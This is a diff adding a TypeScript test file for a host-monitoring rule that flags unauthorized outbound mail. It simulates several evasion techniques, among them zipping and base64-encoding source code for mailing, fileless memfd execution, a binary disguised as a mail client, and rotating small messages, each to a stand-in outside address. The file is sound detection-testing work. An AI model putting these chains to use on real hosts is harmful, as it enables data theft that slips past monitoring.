@@ -1,0 +1,91 @@
+import { test } from 'node:test';
+import { HOUR, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
+import { atMostAt, firesAt, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';
+
+/** Ways around AN0380 of which there is no recording, seen in full: each must alert. */
+const OUT = '203.0.113.66';
+const TO = 'e@mail.example.net';
+
+function host(): HostLog {
+  const log = new HostLog();
+  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
+  log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
+  log.deliver();
+  log.wait(MINUTE);
+  return log;
+}
+
+const EVASIONS: Readonly<Record<string, (log: HostLog) => void>> = {
+  'a copy of the mailer behind an encoder': log => {
+    const job = log.cron('dev', 'x');
+    const stages = job.pipeline('/usr/bin/zip - src', '/usr/bin/base64', `/home/dev/.l/fc -s a ${TO}`);
+    stages[2]?.run(`/usr/sbin/sendmail -i ${TO}`);
+    log.submitted('dev', TO, 400_000);
+  },
+  "a script of a user's unit, straight to a server": log => {
+    const manager = log.service('/usr/lib/systemd/systemd --user', 'dev');
+    manager.run('/usr/bin/python3 /home/dev/.l/a.py').read('/home/dev/.l/a.py').connect(OUT, 587);
+  },
+  'a program in memory that left its login': log => {
+    const orphan = log.shell('dev').run('/usr/bin/setsid -f x').fork().orphan();
+    orphan.exec(['/proc/self/fd/5'], { exe: '/memfd:k (deleted)' }).connect(OUT, 25);
+  },
+  'a mailer in a terminal of which no record tells who made it': log => {
+    const server = log.shell('dev').run('/usr/bin/tmux new -d').fork().orphan();
+    server.who = { ...server.who, tty: 'pts9' };
+    server.run(['/bin/sh', '-c', 'x']).run(`/bin/busybox sendmail -S x ${TO}`).connect(OUT, 25);
+  },
+  'a program in a container, as root there': log => {
+    log.service('/usr/bin/containerd-shim-runc-v2').run('/app/bin/agent').connect(OUT, 25);
+  },
+  'a program that bears the name of a mail client': log => {
+    log.cron('dev', 'x').run('/home/dev/.l/thunderbird').connect(OUT, 587);
+  },
+  'a terminal made by script(1)': log => {
+    const job = log.cron('dev', 's');
+    const script = job.run(['/usr/bin/script', '-qc', 'x', '/dev/null']);
+    const inner = script.run(['/bin/sh', '-c', 'x'], { who: { ...script.who, tty: 'pts7' } });
+    inner.run(`/usr/bin/mutt -s r -a /home/dev/.l/q -- ${TO}`).read('/home/dev/.l/q');
+    log.submitted('dev', TO, 300_000);
+  },
+  'many small messages to recipients that rotate': log => {
+    for (let i = 0; i < 60; i++) {
+      log.cron('dev', 's').run(`/usr/bin/mail -s n r${i}@mail.example.net`);
+      log.submitted('dev', `r${i}@mail.example.net`, 9000);
+      log.wait(20 * MINUTE);
+    }
+  },
+  'a script that was started at a terminal and sleeps for hours': log => {
+    const script = log.shell('dev').run('/bin/sh ./n.sh').read('/home/dev/n.sh');
+    log.wait(6 * HOUR);
+    const [xz, mail] = script.pipeline('/usr/bin/xz -c /home/dev/db', `/usr/bin/mail -A - ${TO}`);
+    xz?.read('/home/dev/db');
+    mail?.run('/usr/sbin/sendmail -i');
+    log.submitted('dev', TO, 2_500_000);
+  },
+};
+
+for (const [says, act] of Object.entries(EVASIONS))
+  test(`mail is sent by ${says}`, async () => {
+    const log = host();
+    act(log);
+    firesAt(await scanLog(log), 'AN0380', 'medium');
+  });
+
+test("a person's client that is unpacked in the home fetches mail and sends some: nothing above informational", async () => {
+  const log = host();
+  const client = log.desktop('clerk').run('/home/clerk/thunderbird/thunderbird').connect('198.51.100.7', 993);
+  client.connect('198.51.100.7', 587);
+  atMostAt(await scanLog(log), 'informational');
+});
+
+test('a second terminal of a login over one connection is a terminal of the person', async () => {
+  const log = host();
+  const first = log.shell('dev');
+  const second = first.fork({ ...first.who, tty: 'pts1' });
+  second.ppid = first.ppid;
+  second.run(['/bin/bash'], { argv0: '-bash' });
+  second.run(`/usr/bin/mail -s hello ${TO}`).run('/usr/sbin/sendmail -i');
+  log.submitted('dev', TO, 900);
+  atMostAt(await scanLog(log), 'informational');
+});
